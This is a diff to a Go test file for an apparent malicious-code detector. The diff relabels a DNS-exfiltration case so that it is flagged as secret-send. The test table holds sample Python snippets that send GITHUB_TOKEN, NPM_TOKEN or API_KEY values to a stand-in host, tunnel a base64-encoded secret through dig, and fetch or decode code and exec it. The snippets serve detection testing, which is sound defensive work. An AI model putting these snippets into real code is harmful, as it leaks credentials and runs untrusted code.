@@ -37,7 +37,7 @@ func TestPython(t *testing.T) {
 		{"import os, requests\ntok = os.environ['GITHUB_TOKEN']\nrequests.post('https://x.example', data=tok)\n", "secret-send"},
 		{"import os, requests\nrequests.post('https://x.example', json={'t': os.getenv('NPM_TOKEN')})\n", "secret-send"},
 		{"import os, requests\nhome = os.environ['HOME']\nrequests.post('https://x.example', data='hi')\n", ""},
-		{"import os, base64\nsecret = os.environ['API_KEY']\nenc = base64.b64encode(secret.encode()).decode()\nos.popen(f'dig {enc}.x.example')\n", ""},
+		{"import os, base64\nsecret = os.environ['API_KEY']\nenc = base64.b64encode(secret.encode()).decode()\nos.popen(f'dig {enc}.x.example')\n", "secret-send"},
 		{"import urllib.request\nexec(urllib.request.urlopen('https://x.example/a.py').read().decode())\n", "fetch-exec"},
 		{"import requests\ncode = requests.get('https://x.example/a.py').text\nexec(code)\n", "fetch-exec"},
 		{"import base64\nexec(base64.b64decode('" + packed + "'))\n", "decode-exec,shell:pipe-to-shell"},
